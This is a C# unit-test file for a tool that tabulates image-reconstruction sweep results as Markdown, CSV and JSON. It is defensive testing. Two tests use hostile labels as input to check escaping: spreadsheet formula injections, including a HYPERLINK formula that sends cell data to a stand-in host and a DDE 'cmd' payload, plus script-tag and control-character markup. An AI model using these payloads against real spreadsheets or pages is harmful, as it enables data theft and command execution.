using System.Globalization;
using System.Text.Json;
using PmSFC.Abstractions.Failures;
using PmSFC.Abstractions.Jobs;
using PmSFC.Abstractions.Json;
using PmSFC.Client.Results;
using PmSFC.Client.Tests.Fixtures;
using PmSFC.Storage;

namespace PmSFC.Client.Tests.Results;

public sealed class SweepTableTests : IDisposable
{
    private static readonly double?[][] Psnr =
    [
        [20, 22, 24, 26],
        [19, 20, null, 25],
    ];

    private readonly TemporaryStore _temporary = new();

    public void Dispose() => _temporary.Dispose();

    [Fact]
    public async Task ReadAsync_ResultsInTheStore_AreAveragedByCell()
    {
        var table = await Read();

        table.Metrics.Select(metric => metric.Name).ShouldBe(["psnr", "ssim"]);
        table.Rows.Select(row => (row.Label, row.Done, row.Failed, row.Missing)).ShouldBe([("ours", 4, 0, 0), ("theirs", 3, 0, 1)]);
        // 20, 22, 24, 26: mean 23, s² = 20/3, half width 3.1824463 · √(20/3/4) = 4.1085205
        var ours = table.Rows[0].Metrics["psnr"];
        (ours.Mean, ours.Count).ShouldBe((23, 4));
        ours.HalfWidth!.Value.ShouldBe(4.1085205, 1e-5);
        // 19, 20, 25: mean 64/3
        table.Rows[1].Metrics["psnr"].Mean.ShouldBe(64.0 / 3, 1e-12);
        table.Jobs.Single(job => job.Result is null).Problem.ShouldBe("Not finished.");
    }

    [Fact]
    public async Task ReadAsync_ConflictsInTheStore_AreThoseOfItsJobsAndNoted()
    {
        var plan = SampleSweep.Plan(4, "ours", "theirs");
        await SampleSweep.StoreAsync(_temporary.Store, plan, (_, _) => 20);
        var job = plan.Jobs().ElementAt(5);
        foreach (var id in (string[])[job.Spec.Id, "anothersweepsjob"])
        {
            var conflict = new JobConflict
            {
                JobId = id,
                StoredSha256 = new string('a', 64),
                RefusedSha256 = new string('b', 64),
                Device = "cuda:0 on host-2",
                ProductVersion = "1",
            };
            await _temporary.Store.WriteOnceAsync(ArtifactNames.Conflict(id, conflict.RefusedSha256), ArtifactJson.Write(conflict));
        }

        var table = await SweepTable.ReadAsync(_temporary.Store, plan, SampleSweep.Metrics);

        table.Conflicts.ShouldHaveSingleItem().JobId.ShouldBe(job.Spec.Id);
        table.Notes.ShouldContain(
            "theirs image-1: conflict, another attempt on cuda:0 on host-2 came to another reconstruction (SHA-256 bbbbbbbbbbbb…) than the stored one (aaaaaaaaaaaa…), which counts."
        );
        table.ToMarkdown().ShouldContain("theirs image-1: conflict");
        using var json = JsonDocument.Parse(table.ToJson());
        json.RootElement.GetProperty("jobs")[5].GetProperty("conflicts").GetArrayLength().ShouldBe(1);
        json.RootElement.GetProperty("jobs")[4].GetProperty("conflicts").GetArrayLength().ShouldBe(0);
    }

    [Fact]
    public void Notes_ResultsOfSearchesThatDiverged_NameTheirRowAndImages()
    {
        var plan = SampleSweep.Plan(3, "ours", "theirs");
        var divergence = new JobDivergence
        {
            Iteration = 7,
            Loss = double.NaN,
            RestartedFrom = 0,
            StepScale = 0.5,
        };
        var jobs = plan.Jobs()
            .Select(
                (job, i) =>
                    new TableJob(
                        job,
                        job.Spec.Id,
                        SampleSweep.Result(job, ("psnr", 20)) with
                        {
                            Divergence = i is 3 or 5 ? divergence : null,
                        },
                        Failed: false,
                        Problem: null
                    )
            );

        new SweepTable(plan, [.. jobs])
            .Notes.ShouldHaveSingleItem()
            .ShouldBe(
                "theirs: 2 of 3 results diverged and went on from their last good checkpoint with half the step size (image-0, image-2)."
            );
    }

    [Fact]
    public async Task Differences_OverCommonImages_ArePaired()
    {
        var difference = (await Read()).Differences().Single();

        // -1, -2, -1: mean -4/3, s² = 1/3, half width 4.3026527 · √(1/3/3) = 1.4342176
        (difference.Label, difference.Reference).ShouldBe(("theirs", "ours"));
        difference.Metrics["psnr"].Mean.ShouldBe(-4.0 / 3, 1e-12);
        difference.Metrics["psnr"].HalfWidth!.Value.ShouldBe(1.4342176, 1e-6);
        difference.Metrics["psnr"].Count.ShouldBe(3);
    }

    [Fact]
    public async Task Differences_ToAnotherReference_ChangeTheSign()
    {
        var table = await Read();

        table.Differences("theirs").Single().Metrics["psnr"].Mean.ShouldBe(4.0 / 3, 1e-12);
        Should.Throw<BadInputException>(() => table.Differences("nobody")).Message.ShouldContain("ours, theirs");
    }

    [Theory]
    [InlineData(JobState.Failed, true, "Diverged: The loss exploded; lower the rate.")]
    [InlineData(JobState.Cancelled, false, "Cancelled; resume the sweep to run it.")]
    [InlineData(JobState.WaitingForCapacity, false, "No device is connected.")]
    public async Task ReadAsync_StatusOfAJobWithoutResult_TellsWhy(JobState state, bool failed, string problem)
    {
        var plan = SampleSweep.Plan(4, "ours", "theirs");
        var missing = plan.Jobs().ElementAt(6).Spec.Id;
        var status = new JobStatus
        {
            Id = missing,
            State = state,
            Attempts = 2,
            Failure = new JobFailure { Name = FailureName.Diverged, Message = "The loss exploded; lower the rate." },
            WaitingFor = state == JobState.WaitingForCapacity ? "No device is connected." : null,
        };

        var table = await Read(new Dictionary<string, JobStatus> { [missing] = status });

        var job = table.Jobs.Single(job => job.Result is null);
        (job.Id, job.Failed, job.Problem).ShouldBe((missing, failed, problem));
        (table.Rows[1].Failed, table.Rows[1].Missing).ShouldBe(failed ? (1, 0) : (0, 1));
    }

    [Theory]
    [InlineData("{}", "line 1 is damaged or missing")]
    [InlineData("{\n \"jobId\": 7", "line 2 is damaged or missing")]
    [InlineData("", "it is empty, or no file")]
    [InlineData("\0\0", "line 1 is damaged or missing")]
    [InlineData("null", "line 1 is damaged or missing")]
    public async Task ReadAsync_DamagedResult_IsMissingWithItsReason(string content, string reason)
    {
        var plan = SampleSweep.Plan(1, "ours");
        await _temporary.Store.WriteOnceAsync(
            ArtifactNames.JobResult(plan.Jobs().Single().Spec.Id),
            System.Text.Encoding.UTF8.GetBytes(content)
        );

        var table = await SweepTable.ReadAsync(_temporary.Store, plan);

        table.Rows.Single().Missing.ShouldBe(1);
        table
            .Jobs.Single()
            .Problem.ShouldBe($"jobs/{table.Jobs.Single().Id}/result.json cannot be read ({reason}); 'sweep resume' mends it.");
    }

    [Fact]
    public async Task ToMarkdown_Table_IsReadable()
    {
        (await Read())
            .ToMarkdown()
            .ShouldBe(
                """
                | method | PSNR (dB) ↑ | SSIM ↑ | results | failed | missing | s/image | source |
                | --- | ---: | ---: | ---: | ---: | ---: | ---: | --- |
                | ours | 23.00 ± 4.11 | 0.2300 ± 0.0411 | 4 | 0 | 0 | 2.0 | measured |
                | theirs | 21.33 ± 7.99 | 0.2133 ± 0.0799 | 3 | 0 | 1 | 2.0 | measured |

                Mean ± half the 95 % interval (Student t) over images.

                Difference to ours, on the images that both have:

                | method | PSNR (dB) ↑ | SSIM ↑ | images | source |
                | --- | ---: | ---: | ---: | --- |
                | theirs | −1.33 ± 1.43 | −0.0133 ± 0.0143 | 3 | measured |

                """.ReplaceLineEndings("\n")
            );
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"ok\"\")\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData(" =1", "\"' =1\"")]
    [InlineData("\uFF1D1", "\"'\uFF1D1\"")]
    [InlineData("-2.5", "-2.5")]
    [InlineData("a=b", "a=b")]
    public async Task ToCsv_LabelThatASpreadsheetWouldRun_IsText(string label, string field) =>
        (await Labelled(label)).ToCsv().ShouldContain($"\n{field},,");

    [Theory]
    [InlineData(
        "*K* | `x` [l](http://evil.example) ![i](http://a/i.png) _a_ $x$ \\",
        @"\*K\* \| \`x\` \[l\](http\://evil.example) \!\[i\](http\://a/i.png) \_a\_ \$x\$ \\"
    )]
    [InlineData("<script>alert(2)</script>\"''&amp;", "&lt;script\\>alert(2)&lt;/script\\>\"''&amp;amp;")]
    [InlineData("www.evil.example snake_case ~~x~~", @"www\.evil.example snake_case \~\~x\~\~")]
    [InlineData("\u202Egnp.1", @"\\u202Egnp.1")]
    [InlineData("a\u001b[31mb\nc", @"a\\u001B\[31mb\\nc")]
    public async Task ToMarkdown_LabelWithMarkup_IsText(string label, string cell) =>
        (await Labelled(label)).ToMarkdown().ShouldContain($"\n| {cell} |");

    private Task<SweepTable> Labelled(string label) =>
        SweepTable.ReadAsync(_temporary.Store, SampleSweep.Plan(1, "first", label), SampleSweep.Metrics);

    [Fact]
    public async Task ToCsv_LabelsAndNumbers_SurviveAReader()
    {
        var plan = SampleSweep.Plan(2, "a, \"b\"", "c|d");
        await SampleSweep.StoreAsync(_temporary.Store, plan, (cell, image) => 20.1 + cell + 0.1 * image);

        var table = await SweepTable.ReadAsync(_temporary.Store, plan);

        var lines = table.ToCsv().Split('\n');
        lines[0].ShouldBe("method,difference_to,metric,mean,low95,high95,count,failed,missing,source,data_set,infinite,left_out");
        lines[1].ShouldStartWith("\"a, \"\"b\"\"\",,psnr,");
        double.Parse(lines[3].Split(',')[3], CultureInfo.InvariantCulture).ShouldBe(table.Rows[1].Metrics["psnr"].Mean);
        lines[5].ShouldStartWith("c|d,\"a, \"\"b\"\"\",psnr,");
        table.ToMarkdown().ShouldContain("| c\\|d |");
    }

    [Fact]
    public async Task ToJson_EveryJob_IsInIt()
    {
        var table = await Read();

        using var json = JsonDocument.Parse(table.ToJson());

        var jobs = json.RootElement.GetProperty("jobs").EnumerateArray().ToList();
        jobs.Select(job => job.GetProperty("id").GetString()).ShouldBe(table.Jobs.Select(job => job.Id));
        jobs[0].GetProperty("metrics").GetProperty("psnr").GetDouble().ShouldBe(20);
        jobs[6].GetProperty("problem").GetString().ShouldBe("Not finished.");
        json.RootElement.GetProperty("rows")[1]
            .GetProperty("metrics")
            .GetProperty("psnr")
            .GetProperty("mean")
            .GetDouble()
            .ShouldBe(64.0 / 3, 1e-12);
        json.RootElement.GetProperty("rows").EnumerateArray().ShouldAllBe(row => row.GetProperty("source").GetString() == "measured");
        json.RootElement.GetProperty("quoted").ValueKind.ShouldBe(JsonValueKind.Null);
    }

    [Fact]
    public async Task ToJson_WhatWasDoneToAnImage_IsWithItsJobs()
    {
        var plan = SampleSweep.Plan(2, "ours");
        plan = plan with { Images = [plan.Images[0] with { Note = "gray, read as RGB with equal channels" }, plan.Images[1]] };
        await SampleSweep.StoreAsync(_temporary.Store, plan, (cell, _) => 20 + cell);

        using var json = JsonDocument.Parse((await SweepTable.ReadAsync(_temporary.Store, plan, SampleSweep.Metrics)).ToJson());

        json.RootElement.GetProperty("jobs")
            .EnumerateArray()
            .Select(job => job.GetProperty("imageNote").GetString())
            .ShouldBe(["gray, read as RGB with equal channels", null]);
    }

    /// <summary>A network of published weights is its authors'; one that was trained here is not.</summary>
    [Theory]
    [InlineData("here", "measured-retrained")]
    [InlineData("here, then imported", "measured-retrained")]
    [InlineData("by its authors", "measured")]
    public async Task Source_OfARowWithANetwork_SaysWhoTrainedIt(string trained, string source)
    {
        var plan = SampleSweep.WithNetwork(
            SampleSweep.Plan(2, "ours", "theirs"),
            trained == "here" ? null : SampleSweep.Imported with { TrainedHere = trained != "by its authors" }
        );
        await SampleSweep.StoreAsync(_temporary.Store, plan, (cell, _) => 20 + cell);

        var table = await SweepTable.ReadAsync(_temporary.Store, plan, SampleSweep.Metrics);

        table.Rows.Select(row => row.Source).ShouldBe(["measured", source]);
        table.Differences().Single().Source.ShouldBe(source);
        var markdown = table.ToMarkdown();
        markdown.ShouldContain($"| 2.0 | {source} |");
        markdown.ShouldContain($"| 2 | {source} |");
        markdown
            .Contains("\nmeasured-retrained: the method's network was trained here", StringComparison.Ordinal)
            .ShouldBe(source != "measured");
        table
            .ToCsv()
            .Split('\n')
            .Where(line => line.StartsWith("theirs,", StringComparison.Ordinal))
            .ShouldAllBe(line => line.EndsWith($",{source},,0,0") || line.EndsWith($",{source},,0,"));
        table
            .ToCsv()
            .Split('\n')
            .Where(line => line.StartsWith("ours,", StringComparison.Ordinal))
            .ShouldAllBe(line => line.EndsWith(",measured,,0,0"));
        using var json = JsonDocument.Parse(table.ToJson());
        json.RootElement.GetProperty("rows")[1].GetProperty("source").GetString().ShouldBe(source);
        json.RootElement.GetProperty("differences")[0].GetProperty("source").GetString().ShouldBe(source);
    }

    [Fact]
    public async Task Quoted_Table_StandsApartFromWhatIsMeasured()
    {
        var table = await Read();
        var quoted = PaperTables.Of("inversion").ShouldNotBeNull();

        var markdown = table.ToMarkdown(quoted: quoted);
        markdown.ShouldStartWith(table.ToMarkdown());
        markdown[table.ToMarkdown().Length..].ShouldContain("Table 1 of Li et al. 2021, quoted");
        markdown.ShouldContain("| PmSFC | LSUN church | 0.1501 | 29.67 | paper |");
        markdown[..table.ToMarkdown().Length].ShouldNotContain("paper");
        var lines = table.ToCsv(quoted: quoted).Split('\n');
        lines.ShouldContain("mGANprior,,psnr,25.13,,,,,,paper,LSUN bedroom,,");
        lines.Count(line => line.Contains(",paper,")).ShouldBe(30);
        lines.Where(line => line.Length > 0).ShouldAllBe(line => line.Split(',').Length == 13);
        using var json = JsonDocument.Parse(table.ToJson(quoted: quoted));
        json.RootElement.GetProperty("rows").GetArrayLength().ShouldBe(2);
        json.RootElement.GetProperty("differences").GetArrayLength().ShouldBe(1);
        var row = json.RootElement.GetProperty("quoted").GetProperty("rows")[0];
        (row.GetProperty("source").GetString(), row.GetProperty("dataSet").GetString()).ShouldBe(("paper", "CelebA"));
        row.GetProperty("metrics").GetProperty("lpips").GetDouble().ShouldBe(0.5797);
    }

    /// <summary>Sums over the tables as they are printed in the paper, so that no number was mistyped.</summary>
    [Theory]
    [InlineData("inversion", 15, 6.6222, 300.96)]
    [InlineData("colorization", 15, 1320.76)]
    [InlineData("super-resolution", 5, 136.78, 1.9711, 19.32)]
    public void PaperTables_OfATask_HaveThePapersNumbers(string task, int rows, params double[] sums)
    {
        var table = PaperTables.Of(task).ShouldNotBeNull();

        table.Rows.Length.ShouldBe(rows);
        for (var metric = 0; metric < sums.Length; metric++)
            table.Rows.Sum(row => row.Values[metric]).ShouldBe(sums[metric], 1e-9);
        table.Rows.ShouldAllBe(row => row.Values.Length == table.Metrics.Length && row.Values.Length == sums.Length);
        PaperTables.Of("inpainting").ShouldBeNull();
    }

    [Fact]
    public void PaperTables_OfInversion_SayThatTheirFirstRowsAreStrategiesOfMganpriorsPaper()
    {
        var caption = PaperTables.Of("inversion").ShouldNotBeNull().Caption;

        caption.ShouldContain(
            "mGANprior's own Table 1 (Gu et al. 2020), where the first three are strategies: one code optimized, an encoder alone, and"
        );
        caption.ShouldContain("InvertLayers has no residuals of layers");
    }

    [Fact]
    public void Table_OneExactImage_IsCountedInEveryFormatAndNotAveraged()
    {
        var exact = double.PositiveInfinity;
        var table = Made(
            ["nearest", "bicubic", "bilinear"],
            [
                [exact, 20, 22],
                [exact, exact, 23],
                [exact, exact, exact],
            ]
        );

        table
            .Rows.Select(row => row.Metrics["psnr"])
            .Select(psnr => (psnr.Mean, psnr.Count, psnr.Infinite))
            .ShouldBe([(21, 2, 1), (23, 1, 2), (exact, 0, 3)]);
        table
            .Differences()
            .Select(difference => difference.Metrics["psnr"])
            .Select(psnr => (psnr.Mean, psnr.Count, psnr.Infinite))
            .ShouldBe([(0.5, 2, 1), (0, 1, 2)]);
        var note = table.Notes.ShouldHaveSingleItem();
        note.ShouldStartWith("PSNR (dB): a mean is that of the finite values");
        var markdown = table.ToMarkdown();
        markdown.ShouldContain("| nearest | 21.00 ± 12.71, 1 of 3 exact |");
        markdown.ShouldContain("| bicubic | 23.00, 2 of 3 exact |");
        markdown.ShouldContain("| bilinear | ∞, 3 of 3 exact |");
        markdown.ShouldContain("| bicubic | +0.50 ± 6.35, 1 of 3 infinite | 2 |");
        markdown.ShouldContain("| bilinear | +0.00, 2 of 3 infinite | 1 |");
        markdown.ShouldContain(note);
        var lines = table.ToCsv().Split('\n');
        lines[1].ShouldStartWith("nearest,,psnr,21,");
        lines[1].ShouldEndWith(",2,0,0,measured,,1,0");
        lines[3].ShouldBe("bilinear,,psnr,Infinity,,,0,0,0,measured,,3,0");
        using var json = JsonDocument.Parse(table.ToJson());
        var rows = json.RootElement.GetProperty("rows");
        Psnr(rows[0]).GetProperty("mean").GetDouble().ShouldBe(21);
        Psnr(rows[0]).GetProperty("infinite").GetInt32().ShouldBe(1);
        Psnr(rows[2]).GetProperty("mean").GetString().ShouldBe("Infinity");
        Psnr(rows[2]).GetProperty("low").ValueKind.ShouldBe(JsonValueKind.Null);

        static JsonElement Psnr(JsonElement row) => row.GetProperty("metrics").GetProperty("psnr");
    }

    [Fact]
    public void Table_InfiniteDifferencesOfBothSigns_HaveNoMean()
    {
        var exact = double.PositiveInfinity;
        var table = Made(
            ["a", "b"],
            [
                [exact, 20],
                [20, exact],
            ]
        );

        table.ToMarkdown().ShouldContain("| b | –, 2 of 2 infinite | 0 |");
        table.ToCsv().ShouldContain("b,a,psnr,,,,0,,,measured,,2,");
        using var json = JsonDocument.Parse(table.ToJson());
        json.RootElement.GetProperty("differences")[0]
            .GetProperty("metrics")
            .GetProperty("psnr")
            .GetProperty("mean")
            .ValueKind.ShouldBe(JsonValueKind.Null);
    }

    [Fact]
    public void Table_NumberThatIsNone_IsLeftOutAndSaid()
    {
        var table = Made(
            ["a"],
            [
                [double.NaN, 20, 22],
            ]
        );

        (table.Rows[0].Metrics["psnr"].Mean, table.Rows[0].Metrics["psnr"].Count).ShouldBe((21, 2));
        table.Notes.ShouldBe(["No number for 1 result: PSNR (dB) came out as no number."]);
    }

    private static SweepTable Made(string[] labels, double[][] psnr)
    {
        var plan = SampleSweep.Plan(psnr[0].Length, [.. labels]);
        return new SweepTable(
            plan,
            [
                .. plan.Jobs()
                    .Select(
                        (job, i) =>
                            new TableJob(
                                job,
                                job.Spec.Id,
                                SampleSweep.Result(job, ("psnr", psnr[i / psnr[0].Length][i % psnr[0].Length])),
                                Failed: false,
                                Problem: null
                            )
                    ),
            ],
            [SampleSweep.Metrics[0]]
        );
    }

    [Fact]
    public async Task Metrics_UnknownOnes_ComeLastUnderTheirNames()
    {
        var plan = SampleSweep.Plan(1, "ours");
        var job = plan.Jobs().Single();
        var result = SampleSweep.Result(job, ("ssim", 0.5), ("sharpness", 1.25), ("blur", 2), ("psnr", 20));
        await _temporary.Store.WriteOnceAsync(ArtifactNames.JobReconstruction(job.Spec.Id), SampleSweep.Reconstruction(job));
        await _temporary.Store.WriteOnceAsync(ArtifactNames.JobResult(job.Spec.Id), ArtifactJson.Write(result));

        var table = await SweepTable.ReadAsync(_temporary.Store, plan, SampleSweep.Metrics);

        table.Metrics.Select(metric => metric.Heading).ShouldBe(["PSNR (dB) ↑", "SSIM ↑", "blur", "sharpness"]);
        table.ToMarkdown().ShouldContain("| ours | 20.00 | 0.5000 | 2.0000 | 1.2500 |");
    }

    [Fact]
    public async Task Table_MetricThatNeedsWeights_SaysHowItIsMeasured()
    {
        var table = await ReadMeasured();

        table.Metrics.Select(metric => metric.Name).ShouldBe(["psnr", "ssim"]);
        table.Notes.ShouldBe([
            "Not measured for any result: LPIPS; 'sweep measure' adds them, with the folder of their weights in --weights or PMSFC_WEIGHTS.",
        ]);
        table.ToMarkdown().ShouldContain($"\n{table.Notes[0]}\n");
    }

    [Fact]
    public async Task Table_MeasuredAfterTheJobs_HasTheColumnAndItsWeights()
    {
        var table = await ReadMeasured(
            (0, 0.25, "aaaaaaaaaaaaaaaa"),
            (1, 0.75, "aaaaaaaaaaaaaaaa"),
            (4, 0.5, "aaaaaaaaaaaaaaaa"),
            (2, null, "aaaaaaaaaaaaaaaa")
        );

        table.Metrics.Select(metric => metric.Heading).ShouldBe(["PSNR (dB) ↑", "SSIM ↑", "LPIPS ↓"]);
        (table.Rows[0].Metrics["lpips"].Mean, table.Rows[0].Metrics["lpips"].Count).ShouldBe((0.5, 2));
        (table.Rows[1].Metrics["lpips"].Mean, table.Rows[1].Metrics["lpips"].Count).ShouldBe((0.5, 1));
        (table.Differences()[0].Metrics["lpips"].Mean, table.Differences()[0].Metrics["lpips"].Count).ShouldBe((0.25, 1));
        table.Notes.ShouldBe([
            "LPIPS is measured with lpips/v0.1_squeeze.pth (SHA-256 aaaaaaaaaaaa…).",
            "No number for 1 result: lpips needs larger images.",
            "Not measured for 3 results: LPIPS; 'sweep measure' adds them, with the folder of their weights in --weights or PMSFC_WEIGHTS.",
        ]);
        using var json = JsonDocument.Parse(table.ToJson());
        var job = json.RootElement.GetProperty("jobs")[0];
        job.GetProperty("metrics").GetProperty("lpips").GetDouble().ShouldBe(0.25);
        job.GetProperty("measurements")[0].GetProperty("weights")[0].GetProperty("sha256").GetString().ShouldBe("aaaaaaaaaaaaaaaa");
        json.RootElement.GetProperty("notes").GetArrayLength().ShouldBe(3);
    }

    [Fact]
    public async Task Table_MeasuredWithDifferentWeights_SaysThatTheyCannotBeCompared() =>
        (await ReadMeasured((0, 0.25, "aaaa"), (4, 0.5, "bbbb"))).Notes.ShouldContain(
            "LPIPS is measured with different weights, so its numbers cannot be compared: 'sweep measure --again' measures all with the same."
        );

    [Theory]
    [InlineData(null, null)]
    [InlineData(1, null)]
    [InlineData(2, 0.25)]
    [InlineData(3, 0.25)]
    public async Task Table_MeasuredByAnEarlierDefinition_IsLeftOutAndSaid(int? definition, double? mean)
    {
        var table = await ReadMeasured(
            SampleSweep.Lpips with
            {
                Definition = 2,
            },
            measurement => measurement with { Definition = definition },
            (0, 0.25, "aaaa"),
            (4, 0.5, "aaaa")
        );

        table.Rows[0].Metrics.GetValueOrDefault("lpips").Mean.ShouldBe(mean ?? 0);
        table.Metrics.Any(metric => metric.Name == "lpips").ShouldBe(mean is not null);
        table.LacksMeasurements.ShouldBeTrue();
        var names = string.Join(", ", table.Jobs.Where((_, i) => i is 0 or 4).Select(job => $"jobs/{job.Id}/metrics/lpips.json"));
        var note =
            $"Left out: 2 stored numbers, each of which follows an earlier definition of its metric ({names}). 'sweep measure' measures again.";
        table.Notes.Contains(note).ShouldBe(mean is null, string.Join('\n', table.Notes));
        table.Notes[^1].ShouldStartWith($"Not measured for {(mean is null ? "any result" : "5 results")}: LPIPS");
    }

    [Fact]
    public async Task Table_DamagedMeasurement_CountsAsNotMeasured()
    {
        var id = SampleSweep.Plan(4, "ours", "theirs").Jobs().First().Spec.Id;
        await _temporary.Store.WriteOnceAsync(ArtifactNames.JobMeasurement(id, "lpips"), "{}"u8.ToArray());

        var notes = (await ReadMeasured()).Notes;
        notes.Length.ShouldBe(2);
        notes[0]
            .ShouldStartWith(
                $"Left out: 1 stored number that cannot be read (jobs/{id}/metrics/lpips.json). 'sweep measure' measures again."
            );
        notes[1].ShouldStartWith("Not measured for any result: LPIPS");
    }

    /// <summary>A number counts for the picture that it was measured on, and for no other.</summary>
    [Theory]
    [InlineData("another picture", "was measured on another picture than the stored one")]
    [InlineData("another job", "was measured on another picture than the stored one")]
    [InlineData("another metric", "is a measurement of another job or metric")]
    public async Task Table_MeasurementOfSomethingElse_IsLeftOutAndSaidInEveryFormat(string of, string problem)
    {
        var jobs = SampleSweep.Plan(4, "ours", "theirs").Jobs().ToList();
        var stale = SampleSweep.Measurement(of == "another job" ? jobs[1] : jobs[0], 0.125, "aaaaaaaaaaaaaaaa");
        if (of == "another picture")
            stale = stale with { ReconstructionSha256 = new string('0', 64) };
        if (of == "another metric")
            stale = stale with { Metric = "niqe" };
        await _temporary.Store.WriteOnceAsync(ArtifactNames.JobMeasurement(jobs[0].Spec.Id, "lpips"), ArtifactJson.Write(stale));

        var table = await ReadMeasured((1, 0.25, "aaaaaaaaaaaaaaaa"));

        (table.Rows[0].Metrics["lpips"].Mean, table.Rows[0].Metrics["lpips"].Count).ShouldBe((0.25, 1));
        var note = $"Left out: 1 stored number that {problem} (jobs/{jobs[0].Spec.Id}/metrics/lpips.json). 'sweep measure' measures again.";
        table.Notes.ShouldContain(note);
        table.ToMarkdown().ShouldContain(note);
        table.ToCsv().Split('\n').Single(line => line.StartsWith("ours,,lpips,", StringComparison.Ordinal)).ShouldEndWith(",0,1");
        using var json = JsonDocument.Parse(table.ToJson());
        json.RootElement.GetProperty("jobs")[0].GetProperty("metrics").TryGetProperty("lpips", out _).ShouldBeFalse();
        json.RootElement.GetProperty("jobs")[0].GetProperty("leftOut")[0].GetProperty("problem").GetString().ShouldBe(problem);
    }

    [Theory]
    [InlineData("deleted", "is missing")]
    [InlineData("replaced", "is not the picture that its result was measured on")]
    [InlineData("truncated", "is not the picture that its result was measured on")]
    [InlineData("empty", "is not the picture that its result was measured on")]
    public async Task ReadAsync_PictureThatIsNotTheResults_LeavesTheJobUndone(string how, string problem)
    {
        var (plan, store) = (SampleSweep.Plan(2, "ours"), _temporary.Store);
        await SampleSweep.StoreAsync(store, plan, (_, _) => 20);
        var job = plan.Jobs().First();
        var name = ArtifactNames.JobReconstruction(job.Spec.Id);
        await store.DeleteAsync(name);
        var picture = SampleSweep.Reconstruction(job);
        byte[]? content = how switch
        {
            "replaced" => SampleSweep.Reconstruction(plan.Jobs().Last()),
            "truncated" => picture[..^9],
            "empty" => [],
            _ => null,
        };
        if (content is not null)
            await store.WriteOnceAsync(name, content);

        var table = await SweepTable.ReadAsync(store, plan);

        (table.Rows[0].Done, table.Rows[0].Missing).ShouldBe((1, 1));
        table.Jobs[0].Problem.ShouldBe($"{name} {problem}; 'sweep resume' mends it.");
    }

    [Fact]
    public async Task Table_WithoutAnyResult_IsEmptyButWhole()
    {
        var table = await SweepTable.ReadAsync(_temporary.Store, SampleSweep.Plan(2, "a", "b"));

        table.Metrics.ShouldBeEmpty();
        table.ToMarkdown().ShouldContain("| a | 0 | 0 | 2 | – | measured |");
        table.ToCsv().ShouldContain("a,,,,,,0,0,2,measured,,0,0");
        table.ToJson().ShouldNotBeEmpty();
    }

    private Task<SweepTable> ReadMeasured(params (int Job, double? Value, string Sha256)[] measurements) =>
        ReadMeasured(SampleSweep.Lpips, measurement => measurement, measurements);

    private async Task<SweepTable> ReadMeasured(
        MetricDisplay metric,
        Func<JobMeasurement, JobMeasurement> change,
        params (int Job, double? Value, string Sha256)[] measurements
    )
    {
        var plan = SampleSweep.Plan(4, "ours", "theirs");
        await SampleSweep.StoreAsync(_temporary.Store, plan, (cell, image) => Psnr[cell][image]);
        var jobs = plan.Jobs().ToList();
        foreach (var (job, value, sha256) in measurements)
            await _temporary.Store.WriteOnceAsync(
                ArtifactNames.JobMeasurement(jobs[job].Spec.Id, "lpips"),
                ArtifactJson.Write(change(SampleSweep.Measurement(jobs[job], value, sha256)))
            );
        return await SweepTable.ReadAsync(_temporary.Store, plan, [.. SampleSweep.Metrics, metric]);
    }

    private async Task<SweepTable> Read(IReadOnlyDictionary<string, JobStatus>? statuses = null)
    {
        var plan = SampleSweep.Plan(4, "ours", "theirs");
        await SampleSweep.StoreAsync(_temporary.Store, plan, (cell, image) => Psnr[cell][image]);
        return await SweepTable.ReadAsync(_temporary.Store, plan, SampleSweep.Metrics, statuses);
    }
}
